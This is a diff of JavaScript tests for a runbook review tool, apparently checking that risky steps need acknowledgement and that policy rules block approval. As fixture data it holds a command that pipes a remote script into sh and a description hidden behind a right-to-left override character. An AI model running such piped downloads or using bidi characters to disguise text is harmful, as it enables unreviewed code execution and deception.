@@ -469,7 +469,7 @@ test("an edit by hand is the next revision, and its author does not approve it",
 
 test("risks are acknowledged one by one before an approval", async () => {
 	const content = runbook("RB-LNX-RISK-001");
-	content.steps[0].command = 'systemctl status \u202e"$SERVICE"';
+	content.steps[0].description = "looks \u202eat it";
 	content.steps[1].command = "curl -s https://example.org/fix.sh | sh";
 	await accepted(bob.post("/rpc/learn_submit", { content, reason: "quick fix" }));
 	const { risks } = await comparison("RB-LNX-RISK-001");
@@ -498,10 +498,11 @@ test("a risk is acknowledged for the revision that was read", async () => {
 	content.steps[1].command = "curl -s https://example.org/fix.sh | sh";
 	await accepted(bob.post("/rpc/learn_submit", { content, reason: "quick fix" }));
 	const { risks, digest } = await comparison(id);
-	assert.equal(risks.length, 1);
 	const here = await signedIn(alice, `#/review/${id}`);
-	const box = here.page.getByRole("checkbox", { name: `Acknowledge ${risks[0].name}` });
-	await box.check();
+	const boxes = risks.map(({ name }) =>
+		here.page.getByRole("checkbox", { name: `Acknowledge ${name}`, exact: true }),
+	);
+	for (const box of boxes) await box.check();
 	await here.says(here.blockers, "Nothing stands in the way.");
 	const before = await revise(id, 31);
 	const between = await comparison(id);
@@ -511,8 +512,39 @@ test("a risk is acknowledged for the revision that was read", async () => {
 	assert.equal((await comparison(id)).digest, digest);
 	await here.page.getByRole("button", { name: "Refresh", exact: true }).click();
 	await here.page.getByRole("button", { name: "Show the new content" }).click();
-	await here.says(here.blockers, `Risk not acknowledged: ${risks[0].name}`);
-	assert.equal(await box.isChecked(), false);
+	for (const [number, { name }] of risks.entries()) {
+		await here.says(here.blockers, `Risk not acknowledged: ${name}`);
+		assert.equal(await boxes[number].isChecked(), false);
+	}
+	await here.close();
+});
+
+test("what policy finds is shown, and what it forbids is not approved", async () => {
+	const id = "RB-LNX-POLICY-001";
+	const content = runbook(id);
+	content.steps[1].command = "detonate --slowly";
+	const policy = (severity) =>
+		stage.database.sql(
+			`SELECT api.learn_set_policy('detonates', '${severity}', 'blows up', '{"program": "detonate"}')`,
+		);
+	await policy("warning");
+	await accepted(bob.post("/rpc/learn_submit", { content, reason: "quick fix" }));
+	const here = await signedIn(alice, `#/review/${id}`);
+	const section = here.page.getByRole("region", { name: "Policy", exact: true });
+	await here.says(section, "warning detonates: steps[1].command blows up");
+	await here.says(here.blockers, "Nothing stands in the way.");
+	await policy("danger");
+	await here.page.getByRole("button", { name: "Refresh", exact: true }).click();
+	await here.says(here.blockers, "Risk not acknowledged: restart/detonates");
+	await here.count(section, 0);
+	await policy("error");
+	await here.page.getByRole("button", { name: "Refresh", exact: true }).click();
+	await here.says(
+		here.blockers,
+		"Policy forbids it: steps[1].command blows up: detonate --slowly (detonates)",
+	);
+	await here.says(section, "error detonates: steps[1].command blows up");
+	await policy("warning");
 	await here.close();
 });
 
